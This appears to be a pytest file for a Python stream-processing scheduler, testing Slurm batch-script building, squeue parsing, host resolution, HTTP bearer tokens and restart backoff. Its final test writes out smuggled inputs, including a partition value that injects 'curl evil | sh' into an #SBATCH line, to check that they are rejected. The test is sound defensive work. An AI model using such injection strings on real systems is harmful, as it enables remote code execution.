"""Pure parts of the schedulers: the Slurm batch script and squeue parsing, the bind address,
the HTTP API's bearer token, and the refusals before anything is stored."""

from __future__ import annotations

from pathlib import Path

import pytest

from heron_py.common.handshake import authorized, http_read_token
from heron_py.common.host import is_loopback
from heron_py.scheduler.base import SchedulerError, preflight
from heron_py.scheduler.hosts import HostError, resolve_host, route_source
from heron_py.scheduler.local import LocalScheduler
from heron_py.scheduler.slurm import SlurmOptions, SlurmScheduler, batch_script, job_name, parse_squeue
from heron_py.state import StateConfig

ZK = StateConfig(kind="zookeeper", zk_hosts="127.0.0.1:2181", zk_root="/heron-py")


def test_batch_script_runs_the_executor_of_one_container():
    text = batch_script(topology="wc", container=2, topology_id="wc-abc", home=Path("/shared/h"), python="/opt/py",
                        options=SlurmOptions(partition="p1", time_limit="1:00:00"), state_args=ZK.to_args())
    lines = text.splitlines()
    assert lines[0] == "#!/bin/bash"
    assert "#SBATCH --job-name=heronpy-wc-2" in lines
    assert "#SBATCH --output=/shared/h/topologies/wc/logs/container-2/slurm-%j.out" in lines
    assert {"#SBATCH --exclusive", "#SBATCH --partition=p1", "#SBATCH --time=1:00:00", "unset PYTHONPATH",
            "export HERON_PY_TOPOLOGY_ID=wc-abc"} <= set(lines)
    assert lines[-1] == ("exec /opt/py -m heron_py.scheduler.executor --topology wc --container 2 --home /shared/h "
                         "--host auto --state-manager zookeeper --zk 127.0.0.1:2181/heron-py --zk-session-timeout 5")


def test_batch_script_without_options_and_shared_nodes():
    text = batch_script(topology="wc", container=0, topology_id="t", home=Path("/h"), python="py",
                        options=SlurmOptions(exclusive=False), state_args=[])
    assert "--exclusive" not in text and "--partition" not in text and "--time" not in text
    assert job_name("wc", 0) == "heronpy-wc-0"


def test_parse_squeue():
    assert parse_squeue("12|RUNNING|node1\n13|PENDING|\n\ngarbage\n") == {
        "12": ("running", "node1"), "13": ("pending", "")}


def test_resolve_host():
    assert resolve_host("10.1.2.3", ZK) == "10.1.2.3"  # a scheduler's explicit address wins
    assert resolve_host("auto", StateConfig()) == "127.0.0.1"  # localfs: one machine
    assert resolve_host("auto", ZK) == "127.0.0.1"  # the route to a ZooKeeper on loopback
    assert route_source("127.0.0.5", 9) == "127.0.0.1"
    with pytest.raises(HostError) as e:
        resolve_host("auto", StateConfig(kind="zookeeper", zk_hosts="nohost"))
    assert str(e.value) == ("--host auto: no route to any ZooKeeper server of 'nohost' (no servers); give the "
                            "address to bind with --host ADDRESS")
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost")
    assert not is_loopback("10.213.7.11") and not is_loopback("node1")


def test_http_token_is_derived_and_checked():
    token = http_read_token(b"s" * 32)
    assert len(token) == 64 and token != http_read_token(b"t" * 32)
    assert authorized(f"Bearer {token}", token) and authorized(f"bearer  {token} ", token)
    assert not authorized(None, token) and not authorized("Bearer nope", token)
    assert not authorized(f"Basic {token}", token)
    assert authorized(None, None)  # on loopback there is no token


def test_preflight_refuses_localfs_and_missing_tools(monkeypatch):
    preflight(LocalScheduler, StateConfig())  # the local scheduler needs nothing more
    with pytest.raises(SchedulerError) as e:
        preflight(SlurmScheduler, StateConfig())
    assert str(e.value) == ("submit slurm: the localfs state manager keeps the topology's state on this machine "
                            "only, where the slurm nodes cannot read it; expected --state-manager zookeeper "
                            "--zk HOST:PORT")
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(SchedulerError) as e:
        preflight(SlurmScheduler, ZK)
    assert str(e.value) == ("slurm scheduler: sbatch not found on PATH; expected Slurm's client commands "
                            "(Debian: apt-get install slurm-client) on the machine that runs heron-py")


def test_supervisor_restart_book_backs_off_and_resets():
    """The supervisor's rule (heron_py/scheduler/supervisor.py): a dead executor waits 1.5 s, the
    wait doubles while it keeps dying young (up to 10 s), resets once it stayed up 30 s, and a
    container someone else relaunched is forgotten."""
    from heron_py.scheduler.supervisor import RestartBook

    book = RestartBook()
    assert book.due({0}, 100.0) == []  # seen dead: its backoff starts
    assert book.due({0, 1}, 101.4) == []
    assert book.due({0, 1}, 101.5) == [0]
    book.relaunched(0, 101.5)
    assert book.due({1}, 102.8) == [] and book.due({1}, 102.9) == [1]  # seen dead at 101.4
    book.relaunched(1, 102.9)
    # container 0 dies again at once: 3 s, then 6 s, ... up to 10 s
    waits = []
    now = 102.0
    for _ in range(6):
        book.due({0}, now)
        due_at = book.slots[0].due_at
        assert due_at is not None
        waits.append(round(due_at - now, 3))
        assert book.due({0}, due_at - 0.01) == [] and book.due({0}, due_at) == [0]
        book.relaunched(0, due_at)
        now = due_at + 1.0
    assert waits == [3.0, 6.0, 10.0, 10.0, 10.0, 10.0]
    # up 30 s: back to the minimum
    assert book.due({0}, now + 30.0) == [] and book.slots[0].backoff == 1.5
    # alive again before its turn (the master's relauncher came first): forgotten
    book.due(set(), now + 30.1)
    assert book.slots[0].due_at is None
    # a relaunch that raised is retried after the next backoff
    book.due({1}, 200.0)
    book.failed(1, 201.5)
    assert book.due({1}, 204.4) == [] and book.due({1}, 204.5) == [1]


def test_slurm_values_cannot_inject_script_lines_and_only_job_ids_reach_scancel(tmp_path) -> None:
    from heron_py.scheduler.base import SchedulerError
    from heron_py.scheduler.slurm import SlurmOptions, batch_script, check_slurm_value

    assert check_slurm_value("partition", "debug,long") == "debug,long"
    with pytest.raises(SchedulerError) as e:
        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
                     options=SlurmOptions(partition="debug\ncurl evil | sh"), state_args=[])
    assert str(e.value) == ("slurm scheduler: partition 'debug\\ncurl evil | sh': expected letters, digits and "
                            "'_.,:+-' only (it goes into an #SBATCH line)")
    with pytest.raises(SchedulerError, match="time limit '1:00 -u root'"):
        batch_script(topology="wc", container=0, topology_id="t", home=tmp_path, python="python3",
                     options=SlurmOptions(time_limit="1:00 -u root"), state_args=[])
